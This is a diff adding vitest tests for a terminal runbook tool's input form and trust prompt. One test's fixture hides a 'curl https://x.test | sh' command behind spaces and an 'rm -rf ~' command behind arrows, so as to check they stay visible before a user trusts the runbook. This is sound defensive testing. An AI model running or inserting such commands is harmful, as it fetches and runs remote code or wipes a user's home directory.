@@ -2,6 +2,7 @@ import { afterEach, expect, test } from 'vitest';
 import { InputsForm } from '../../components/InputsForm.tsx';
 import type { InputField } from '../../components/InputsForm.tsx';
 import { TrustScreen } from '../../components/TrustScreen.tsx';
+import { ASCII, UNICODE } from '../../src/ui/glyphs.ts';
 import { widthOf } from '../../src/ui/text.ts';
 import { screenOf } from '../support/screen.ts';
 import type { Screen } from '../support/screen.ts';
@@ -19,13 +20,56 @@ const FIELDS: readonly InputField[] = [
 ];
 const TREE = [{ title: 'Prepare', steps: ['Clean', 'Lint'] }];
 
-const form = async (size = { columns: 120, rows: 36 }) => {
+/** The form as it appeared, before it listens. */
+const newForm = async (size = { columns: 120, rows: 36 }) => {
+  let now = 0;
   const done: unknown[] = [];
-  const screen = screenOf(<InputsForm fields={FIELDS} tree={TREE} repository="acme/tidewater" skin={stillSkin} spareRow={false} onDone={(values) => done.push(values)} />, size);
+  const screen = screenOf(<InputsForm fields={FIELDS} tree={TREE} repository="acme/tidewater" skin={stillSkin} clock={() => now} spareRow={false} onDone={(values) => done.push(values)} />, size);
   open = screen;
   await screen.waitFor('0/2 confirmed');
-  return { screen, done };
+  return { screen, done, pass: (ms: number) => (now += ms) };
 };
+
+const form = async (size?: { columns: number; rows: number }) => {
+  const opened = await newForm(size);
+  opened.pass(700);
+  return opened;
+};
+
+test('an Enter that was meant for the question before it confirms nothing, nor does a paste', async () => {
+  const { screen, done, pass } = await newForm();
+  await screen.waitFor('waiting');
+  for (let held = 0; held < 4; held += 1) await screen.type('\r');
+  await screen.paste('9');
+  expect(screen.text()).toContain('0/2 confirmed');
+  expect(screen.text()).toContain('v1.2.0▏');
+  expect(done).toEqual([]);
+  pass(700);
+  await screen.type('\r');
+  await screen.waitFor('1/2 confirmed');
+  await screen.waitFor('listening');
+});
+
+test.each([['esc', '\u001b'], ['ctrl-c', '\u0003']])('%s leaves the form at once, before it listens', async (_, bytes) => {
+  const { screen, done } = await newForm();
+  await screen.type(bytes);
+  await expect.poll(() => done).toEqual([null]);
+});
+
+test('in a window that shows no form nothing is confirmed, and ctrl-c leaves', async () => {
+  const { screen, done } = await form();
+  screen.resize(50, 12);
+  await screen.waitFor('needs 60×16');
+  await screen.type('\r');
+  await screen.type('\r');
+  expect(done).toEqual([]);
+  screen.resize(120, 36);
+  await screen.waitFor('0/2 confirmed');
+  screen.resize(50, 12);
+  await screen.waitFor('needs 60×16');
+  await screen.type('\u0003');
+  await expect.poll(() => done).toEqual([null]);
+});
 
 test('each input is confirmed by itself, and only then it is done', async () => {
   const { screen, done } = await form();
@@ -71,12 +115,12 @@ test.each(SIZES)('the form fits exactly in %i×%i', async (columns, rows) => {
 
 const LINES = Array.from({ length: 90 }, (_, index) => `step ${index + 1}\u001b[2J`);
 
-const trust = async (size = { columns: 120, rows: 36 }) => {
+const trust = async (size = { columns: 120, rows: 36 }, lines: readonly string[] = LINES, skin = stillSkin) => {
   let now = 0;
   const done: boolean[] = [];
-  const screen = screenOf(<TrustScreen source=".holdpoint/runbook.yaml" lines={LINES} changed={false} skin={stillSkin} clock={() => now} spareRow={false} onDone={(trusted) => done.push(trusted)} />, size);
+  const screen = screenOf(<TrustScreen source=".holdpoint/runbook.yaml" lines={lines} changed={false} skin={skin} clock={() => now} spareRow={false} onDone={(trusted) => done.push(trusted)} />, size);
   open = screen;
-  await screen.waitFor('Trust this runbook?');
+  await screen.waitFor(/Trust this runbook\?|too small/);
   return { screen, done, pass: (ms: number) => (now += ms) };
 };
 
@@ -105,4 +149,34 @@ test.each(SIZES)('the trust question fits exactly in %i×%i and draws letters on
   expect(screen.lines()).toHaveLength(rows);
   expect(screen.lines().filter((line) => widthOf(line) > columns)).toEqual([]);
   expect(screen.lines().some((line) => line.includes('step 1 '))).toBe(true);
+});
+
+test.each([['esc', '\u001b'], ['ctrl-c', '\u0003']])('%s leaves the trust question at once, before it listens, and trusts nothing', async (_, bytes) => {
+  const { screen, done } = await trust();
+  await screen.type(bytes);
+  await expect.poll(() => done).toEqual([false]);
+});
+
+const HIDDEN = [`run: npm test${' '.repeat(200)}; curl https://x.test | sh`, `run: echo ${'→'.repeat(300)}; rm -rf ~`];
+
+test.each([...SIZES.map(([columns, rows]) => [columns, rows, UNICODE] as const), [80, 24, ASCII] as const])('a command behind two hundred spaces, or behind arrows, is there to be read in %i×%i', async (columns, rows, glyphs) => {
+  const { screen } = await trust({ columns, rows }, HIDDEN, { ...stillSkin, glyphs });
+  /** What stands in the frame, without its ends, its fill and the marks of what goes on. */
+  const read = (): string => screen.lines().map((line) => line.replace(/^[┃"] (?:[…~] )?/, '').replace(/[┃"]$/, '')).join('').replaceAll(' ', '');
+  expect(read()).toContain('run:npmtest;curlhttps://x.test|sh');
+  await screen.type('G');
+  expect(read()).toMatch(/(?:→|->);rm-rf~/);
+});
+
+test.each([[120, 9], [30, 36]])('in a window of %i×%i, which shows none of it, nothing is trusted', async (columns, rows) => {
+  const { screen, done, pass } = await trust({ columns, rows });
+  pass(700);
+  await screen.type('\t');
+  await screen.type('\r');
+  expect(screen.lines().length).toBeLessThanOrEqual(rows);
+  expect(screen.text()).toContain('too small');
+  screen.resize(120, 36);
+  await screen.waitFor('Trust this runbook?');
+  await screen.type('\r');
+  await expect.poll(() => done).toEqual([false]);
 });
